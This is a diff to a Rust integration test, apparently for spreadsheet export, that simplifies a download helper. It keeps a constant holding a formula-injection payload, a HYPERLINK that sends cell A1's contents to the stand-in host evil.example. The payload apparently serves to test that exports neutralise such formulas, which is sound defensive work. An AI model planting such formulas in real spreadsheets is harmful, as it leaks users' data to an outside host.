@@ -10,21 +10,12 @@ use std::io::{Cursor, Read};
 use calamine::{Data, Reader, Xlsx};
 use common::{App, data_message, ingest};
 use domain::store::users::Role;
-use reqwest::StatusCode;
 use serde_json::json;
 
 const LINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;
 
 async fn download(app: &App, token: &str, path: &str) -> Vec<u8> {
-    let r = app
-        .client()
-        .get(app.url(path))
-        .bearer_auth(token)
-        .send()
-        .await
-        .expect("download");
-    assert_eq!(r.status(), StatusCode::OK, "{path}");
-    r.bytes().await.expect("body").to_vec()
+    common::Api::new(app, token).download(path, "").await.body
 }
 
 fn records(body: &[u8]) -> Vec<Vec<String>> {
